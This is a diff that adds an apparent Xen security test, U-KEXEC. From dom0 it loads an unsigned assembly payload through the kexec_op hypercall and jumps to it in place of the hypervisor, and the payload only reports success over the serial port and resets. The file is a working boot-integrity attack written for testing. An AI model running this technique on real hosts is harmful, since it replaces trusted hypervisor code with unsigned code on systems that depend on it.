@@ -1,0 +1,84 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * kexec_op: Xen loads an image for its caller and, when asked, stops everything
+ * and jumps to it. Nobody looks at who made the image.
+ */
+#include "../rogue.h"
+
+#include <elf.h>
+#include <time.h>
+
+#include <xen/kexec.h>
+
+/*
+ * Where in the machine's RAM the payload goes: nothing lives there once Xen has
+ * let go.
+ */
+static const uint64_t payload_at = 16UL << 20;
+
+extern const char kexec_payload[], kexec_payload_end[];
+
+/*
+ * The payload, entered on the bare machine in 64-bit mode, its memory mapped
+ * one to one. It reports its own success on the first serial port, in this
+ * program's words, and resets.
+ */
+__asm__(
+    ".section .rodata\n"
+    ".globl kexec_payload, kexec_payload_end\n"
+    "kexec_payload:\n"
+    "    cli\n"
+    "    lea 4f(%rip), %rsi\n"
+    "1:  mov $0x3fd, %edx\n" /* line status: transmitter empty? */
+    "2:  in (%dx), %al\n"
+    "    test $0x20, %al\n"
+    "    jz 2b\n"
+    "    lodsb\n"
+    "    test %al, %al\n"
+    "    jz 3f\n"
+    "    mov $0x3f8, %edx\n"
+    "    out %al, (%dx)\n"
+    "    jmp 1b\n"
+    "3:  mov $0xcf9, %edx\n" /* reset control */
+    "    mov $0x6, %al\n"
+    "    out %al, (%dx)\n"
+    "    hlt\n"
+    "    jmp 3b\n"
+    "4:  .ascii \"\\n@rogue result U-KEXEC succeeds unsigned code runs in place of Xen\\n\"\n"
+    "    .asciz \"\\n@rogue done 1\\n\\n\"\n"
+    "kexec_payload_end:\n"
+    ".text\n");
+
+/*
+ * U-KEXEC: replace Xen by code that nobody signed.
+ *
+ * If it works, nothing of this program is left to tell: the payload does.
+ */
+ATTACK_OWN_BOOT("U-KEXEC", "load an unsigned image with kexec and run it")
+{
+    static const struct timespec for_the_jump = { .tv_sec = 2 };
+    xen_kexec_segment_t *segment = buffer(PAGE_SIZE);
+    xen_kexec_load_t *load = buffer(PAGE_SIZE);
+    xen_kexec_exec_t *exec = buffer(PAGE_SIZE);
+    char *image = buffer(PAGE_SIZE);
+
+    memcpy(image, kexec_payload, (size_t)(kexec_payload_end - kexec_payload));
+    set_xen_guest_handle(segment->buf.h, image);
+    segment->buf_size = segment->dest_size = PAGE_SIZE;
+    segment->dest_maddr = payload_at;
+
+    load->type = exec->type = KEXEC_TYPE_DEFAULT;
+    load->arch = EM_X86_64;
+    load->nr_segments = 1;
+    load->entry_maddr = payload_at;
+    set_xen_guest_handle(load->segments.h, segment);
+
+    if ( hypercall2(__HYPERVISOR_kexec_op, KEXEC_CMD_kexec_load, load) ==
+         -ENOSYS )
+        return not_applicable("Xen takes no kexec from this kind of dom0");
+    announce("about to kexec");
+    hypercall2(__HYPERVISOR_kexec_op, KEXEC_CMD_kexec, exec);
+    nanosleep(&for_the_jump, NULL);
+
+    return effect(false, "Xen and dom0 still run");
+}
